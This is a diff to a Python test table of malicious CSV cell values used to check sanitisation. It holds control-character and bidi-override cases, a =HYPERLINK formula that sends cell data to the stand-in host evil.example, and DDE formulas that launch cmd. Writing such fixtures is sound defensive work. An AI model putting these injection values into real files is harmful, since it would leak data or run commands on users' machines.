@@ -284,10 +284,11 @@ CASES: dict[str, Callable[[Project], Where]] = {
     "byte-order-mark": _bom,
     "nul-byte": _cell("events", "summary", "Khorog\x00 clashes", "text", only=True),
     "ansi-escape": _cell("casualty_claims", "claimant", "\x1b[2J\x1b[31mMinistry", "text",
-                         only=True),
+                         only=True, claim_id="c0001"),
     "c1-control": _cell("deployments", "location", "Khorog\x9b31m", "text", only=True),
     "bidi-override": _cell("casualty_claims", "claimant",
-                           "Ministry \u202edellik 0001\u202c", "text", only=True),
+                           "Ministry \u202edellik 0001\u202c", "text", only=True,
+                           claim_id="c0001"),
     # CSV structure and size
     "open-quote-mid-file": _open_quote_mid_file,
     "open-quote-to-end": _open_quote_to_end,
@@ -303,7 +304,7 @@ CASES: dict[str, Callable[[Project], Where]] = {
     # formula injection (a CSV opened in a spreadsheet runs these)
     "formula-hyperlink": _cell("casualty_claims", "claimant",
                                '=HYPERLINK("http://evil.example/?"&A1,"Ministry")',
-                               "no-formula", only=True),
+                               "no-formula", only=True, claim_id="c0001"),
     "formula-plus-dde": _cell("deployments", "location", "+cmd|' /C calc'!A0", "no-formula",
                               only=True),
     "formula-minus-dde": _cell("sources", "title", "-2+3+cmd|' /C calc'!A0", "no-formula",
